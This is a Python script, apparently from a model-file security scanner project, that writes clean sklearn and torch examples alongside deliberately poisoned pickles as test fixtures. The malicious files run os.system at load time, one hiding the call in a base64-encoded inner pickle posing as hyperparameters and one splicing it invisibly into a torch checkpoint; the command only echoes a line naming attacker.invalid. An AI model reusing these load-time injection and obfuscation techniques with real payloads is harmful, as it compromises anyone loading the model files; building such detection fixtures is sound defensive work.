#!/usr/bin/python3
"""Writes the demo models in examples/ (see examples/README.md).

    /usr/bin/python3 scripts/make-examples.py

Clean examples come from the real libraries (scikit-learn, torch). Malicious ones are
assembled from raw pickle opcodes with the helpers of tests/fixtures/make_malicious.py, or
spliced into a torch checkpoint made by torch; nothing is ever unpickled. The command they
would run only prints a line, and names attacker.invalid, a host that cannot exist.
"""

import base64
import io
import os
import pickle
import sys
import zipfile

import numpy as np
import torch
from sklearn.linear_model import LogisticRegression

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(ROOT, "tests", "fixtures"))
sys.dont_write_bytecode = True  # no __pycache__ in the fixture folder, which tests scan
import make_malicious as op  # noqa: E402  (opcode helpers; importing runs nothing)

EXAMPLES = os.path.join(ROOT, "examples")
COMMAND = "echo pwned by attacker.invalid"
SEED = 7


def write(relative, data):
    path = os.path.join(EXAMPLES, relative)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    print(f"{len(data):8d}  examples/{relative}")


def sklearn_classifier():
    rng = np.random.default_rng(SEED)
    features = rng.normal(size=(30, 3))
    labels = (features[:, 0] > 0).astype(np.int64)
    return pickle.dumps(LogisticRegression(random_state=SEED).fit(features, labels), protocol=4)


def torch_state_dict():
    torch.manual_seed(SEED)
    model = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf)  # the zip format, torch's default since 1.6
    return buf.getvalue()


def malicious_pickle():
    """What a poisoned model.pkl looks like: os.system(COMMAND) at load time, protocol 2."""
    return op.proto(2) + op.call1("os", "system", COMMAND) + op.STOP


def obfuscated_pickle():
    """A model.pkl that looks like a dict of hyper-parameters. While it loads, it unpickles a
    base64-encoded second pickle whose call is getattr(__import__('os'), 'system')(COMMAND):
    no GLOBAL names os.system anywhere, and the outer call's result is popped."""
    inner = (op.proto(2) + op.global_("builtins", "getattr") + op.global_("builtins", "__import__") +
             op.binunicode("os") + op.TUPLE1 + op.REDUCE + op.binunicode("system") + op.TUPLE2 +
             op.REDUCE + op.binunicode(COMMAND) + op.TUPLE1 + op.REDUCE + op.STOP)
    op.check("inner pickle", inner)
    encoded = base64.b64encode(inner).decode("ascii")
    return (op.proto(3) + op.global_("pickle", "loads") +
            op.call1("base64", "b64decode", encoded) + op.TUPLE1 + op.REDUCE + op.POP +
            op.EMPTY_DICT + op.binunicode("learning_rate") + op.binfloat(0.001) + op.SETITEM +
            op.binunicode("epochs") + op.binint1(10) + op.SETITEM + op.STOP)


def checkpoint_with_payload(checkpoint):
    """The torch checkpoint with os.system(COMMAND) spliced into archive/data.pkl.

    The call's result is popped, so loading still returns the real state dict: a user would
    notice nothing."""
    with zipfile.ZipFile(io.BytesIO(checkpoint)) as source:
        members = [(info.filename, source.read(info)) for info in source.infolist()]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, content in members:
            if name.endswith("/data.pkl"):
                content = content[:2] + op.call1("os", "system", COMMAND) + op.POP + content[2:]
                op.check(name, content)
            archive.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), content)
    return out.getvalue()


def main():
    checkpoint = torch_state_dict()
    write("clean/sklearn_classifier.pkl", sklearn_classifier())
    write("clean/tiny_mlp_state_dict.pt", checkpoint)
    payload = malicious_pickle()
    op.check("model.pkl", payload)
    write("malicious/model.pkl", payload)
    write("malicious/pytorch_model.bin", checkpoint_with_payload(checkpoint))
    hidden = obfuscated_pickle()
    op.check("hyperparameters.pkl", hidden)
    write("malicious/hyperparameters.pkl", hidden)


if __name__ == "__main__":
    main()
